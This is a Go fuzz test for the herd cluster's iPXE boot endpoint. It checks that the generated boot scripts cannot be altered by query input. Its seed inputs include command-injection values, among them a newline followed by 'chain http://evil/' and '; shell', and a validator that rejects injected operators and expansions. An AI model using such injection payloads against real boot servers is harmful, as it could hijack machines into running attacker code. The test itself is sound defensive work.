package boot_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/herd-hpc/herd/functions/auth"
	"github.com/herd-hpc/herd/functions/boot"
	"github.com/herd-hpc/herd/functions/model"
)

// FuzzIPXEQuery sends any query to GET /boot/ipxe, against the real Redis
// and MinIO: the answer is never a server error, always an iPXE script,
// and nothing from the request can add a command, a setting expansion or
// a comment to it.
func FuzzIPXEQuery(f *testing.F) {
	e := newEnv(f, boot.Config{DiscoveryCap: 1000})
	e.group(model.Group{Name: "compute", Settings: model.Settings{Image: "rocky9"}})
	e.image("rocky9", boot.LiveBranch)
	e.node(model.Node{Name: "node001", Group: "compute", Interfaces: []model.Interface{{Name: "eth0", MAC: "52:54:00:12:34:56", Boot: true}}})
	e.node(model.Node{Name: "node002", Interfaces: []model.Interface{{Name: "eth0", MAC: "52:54:00:12:34:57", Boot: true}}})
	for _, seed := range []string{
		"",
		"mac=52:54:00:12:34:56&arch=x86_64&platform=efi",
		"mac=52:54:00:12:34:57&arch=x86_64&platform=pcbios&session=0123456789abcdef0123456789abcdef",
		"mac=52%3A54%3A00%3A12%3A34%3A58&arch=i386&platform=pcbios&uuid=4c4c4544&manufacturer=Dell%20Inc.&product=R650&serial=X&asset=",
		"mac=52:54:00:12:34:59&manufacturer=a%0Aboot%0A&serial=${x}&asset=%23c&product=a|b&&c",
		"mac=zz&arch=${buildarch}",
		"mac=&mac=",
		"mac=52:54:00:12:34:56&arch=x86_64%0Achain%20http://evil/",
		"mac=52:54:00:12:34:56&platform=efi;%20shell",
		"%zz=%zz&mac",
	} {
		f.Add(seed, "iPXE/1.21.1")
	}
	f.Fuzz(func(t *testing.T, rawQuery, agent string) {
		req := &http.Request{Method: http.MethodGet, URL: &url.URL{Path: "/boot/ipxe", RawQuery: rawQuery},
			Header: http.Header{}, Host: edgeHost, RemoteAddr: "10.0.7.9:68"}
		req = req.WithContext(t.Context())
		req.Header.Set("User-Agent", agent)
		req.Header.Set(auth.HeaderEdgeSecret, edgeSecret)
		rec := httptest.NewRecorder()
		e.h.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK && rec.Code != http.StatusBadRequest {
			t.Fatalf("query %q: status %d\n%s", rawQuery, rec.Code, rec.Body)
		}
		checkScript(t, rawQuery, rec.Body.String())
	})
}

// checkScript fails unless script is one of the scripts herd writes: known
// commands only, setting expansions only in herd's own chain URL, echo text
// free of anything iPXE would interpret.
func checkScript(t *testing.T, query, script string) {
	t.Helper()
	lines, ok := strings.CutPrefix(script, "#!ipxe\n")
	if !ok || !strings.HasSuffix(lines, "\n") {
		t.Fatalf("query %q: not an iPXE script:\n%s", query, script)
	}
	for line := range strings.Lines(lines) {
		line = strings.TrimSuffix(line, "\n")
		cmd, rest, _ := strings.Cut(line, " ")
		switch cmd {
		case "echo":
			if strings.ContainsAny(rest, "$#|&\\`\"") || !strings.HasPrefix(rest, "herd: ") {
				t.Fatalf("query %q: unsafe echo %q", query, line)
			}
			for _, f := range strings.Fields(rest) {
				if f == ";" {
					t.Fatalf("query %q: command separator in %q", query, line)
				}
			}
		case "chain", "kernel", "initrd":
			fields := strings.Fields(rest)
			if cmd != "chain" {
				if len(fields) < 3 || fields[0] != "--name" {
					t.Fatalf("query %q: %q", query, line)
				}
				fields = fields[2:] // --name NAME
			}
			for _, f := range fields {
				if strings.HasPrefix(f, "#") || f == "||" || f == "&&" || f == ";" {
					t.Fatalf("query %q: comment or operator in %q", query, line)
				}
			}
			if strings.Contains(rest, "${") && rest != boot.ChainURL("http://"+edgeHost) {
				t.Fatalf("query %q: setting expansion outside herd's chain URL: %q", query, line)
			}
			if cmd != "kernel" && len(fields) != 1 {
				t.Fatalf("query %q: arguments after the URL in %q", query, line)
			}
			for _, f := range fields[1:] {
				if !strings.HasPrefix(f, "herd.") && !strings.HasPrefix(f, "initrd=") && !regexp.MustCompile(`^BOOTIF=01(-[0-9a-f]{2}){6}$`).MatchString(f) {
					t.Fatalf("query %q: unexpected argument %q in %q", query, f, line)
				}
			}
		case "sleep", "boot":
		default:
			t.Fatalf("query %q: unexpected command %q", query, line)
		}
	}
}
